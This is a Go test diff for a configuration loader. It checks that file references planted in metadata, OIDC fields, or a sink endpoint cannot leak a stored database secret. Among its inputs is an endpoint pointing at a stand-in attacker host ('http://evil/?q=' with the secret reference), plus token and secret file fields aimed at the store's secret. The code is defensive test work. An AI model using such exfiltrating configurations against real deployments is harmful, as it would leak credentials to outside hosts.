@@ -179,3 +179,34 @@ func FuzzConfig(f *testing.F) {
 		}
 	})
 }
+
+// TestAWriterOfTheFileReadsNoSecret: what goes to the receiver, or into an error, holds
+// nothing of the files that the pod has for others, whatever stands in the file.
+func TestAWriterOfTheFileReadsNoSecret(t *testing.T) {
+	const planted = "postgres://owner:pl4nted@h/d?sslmode=disable"
+	uri := filepath.Join(t.TempDir(), "uri")
+	if err := os.WriteFile(uri, []byte(planted), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	ref := "${file:" + uri + "}"
+	for name, tt := range map[string]struct{ more, want string }{
+		"metadata": {"[exporter.metadata]\ncluster = \"c\"\nleak = \"" + ref + "\"\n", `key "exporter.metadata.leak": ` + ref},
+		"endpoint": {"[exporter.metadata]\ncluster = \"c\"\n[exporter.sink]\nendpoint = \"http://evil/?q=" + ref + "\"\n", `key "exporter.sink.endpoint": ` + ref},
+		"client":   {"[exporter.oidc]\nclientID = \"" + ref + "\"\n", `key "exporter.oidc.clientID": ` + ref},
+		"token":    {"[exporter.metadata]\ncluster = \"c\"\n[exporter.sink]\nendpoint = \"https://evil\"\ntokenFile = \"" + uri + "\"\n", "exporter.sink.tokenFile: " + uri + " is the secret for key store"},
+		"secret": {"[exporter.metadata]\ncluster = \"c\"\n[exporter.sink]\nendpoint = \"https://evil\"\n[exporter.oidc]\ntokenURL = \"https://evil\"\nclientID = \"i\"\nsecretFile = \"" + uri + "\"\n",
+			"exporter.oidc.secretFile: " + uri + " is the secret for key store"},
+	} {
+		c, err := load(t, tt.more, "--store="+ref)
+		if err == nil || !strings.Contains(err.Error(), tt.want) || strings.Contains(err.Error(), "pl4nted") {
+			t.Errorf("%s: %v, want %q in it", name, err, tt.want)
+		}
+		if c.Exporter.Metadata["leak"] == planted {
+			t.Errorf("%s: the metadata hold the secret", name)
+		}
+	}
+	c, err := load(t, strings.Replace(minimal, "store = \"postgres://h/d\"", "", 1), "--store="+ref)
+	if err != nil || c.Store.Reveal() != planted {
+		t.Errorf("the store's own reference: %v", err)
+	}
+}
